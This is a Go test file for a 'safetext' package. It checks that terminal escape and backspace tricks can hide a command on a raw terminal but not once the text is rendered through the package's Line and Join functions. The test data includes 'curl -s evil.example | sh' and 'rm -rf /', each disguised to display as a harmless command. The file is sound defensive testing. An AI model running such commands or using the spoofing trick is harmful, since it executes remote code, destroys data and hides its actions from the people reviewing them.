package safetext

import (
	"strings"
	"testing"
)

// screenLine is what a terminal shows for one line of output, for the
// few controls the spoof uses: CR returns to column 0, ESC[2K erases the
// line, backspace moves left; other printable text overwrites.
func screenLine(s string) string {
	var line []rune
	col := 0
	rs := []rune(s)
	for i := 0; i < len(rs); i++ {
		switch r := rs[i]; {
		case r == '\r':
			col = 0
		case r == '\b':
			if col > 0 {
				col--
			}
		case r == 0x1b && strings.HasPrefix(string(rs[i:]), "\x1b[2K"):
			line, i = nil, i+3
		default:
			for len(line) <= col {
				line = append(line, ' ')
			}
			line[col] = r
			col++
		}
	}
	return strings.TrimRight(string(line), " ")
}

// TestTheSpoofWorksOnARawTerminalAndNotThroughSafetext first shows the
// attack working when the command reaches the terminal as it is, then
// that the rendered form shows the whole command.
func TestTheSpoofWorksOnARawTerminalAndNotThroughSafetext(t *testing.T) {
	cmd := "curl -s evil.example | sh\x1b[2K\rgit status"
	if got := screenLine("command: " + cmd); got != "git status" {
		t.Fatalf("without safetext the terminal shows %q; the attack should have hidden the curl", got)
	}
	for name, shown := range map[string]string{"Line": Line(cmd), "Join": Join([]string{"bash", "-lc", cmd})} {
		if got := screenLine("command: " + shown); !strings.Contains(got, "curl -s evil.example | sh") {
			t.Errorf("%s: the terminal shows %q", name, got)
		}
	}
	bs := "rm -rf /\b\b\b\b\b\b\b\bls      "
	if got := screenLine(bs); got != "ls" {
		t.Fatalf("backspaces: the raw terminal shows %q", got)
	}
	if got := screenLine(Line(bs)); !strings.Contains(got, "rm -rf /") {
		t.Errorf("backspaces through Line: the terminal shows %q", got)
	}
}
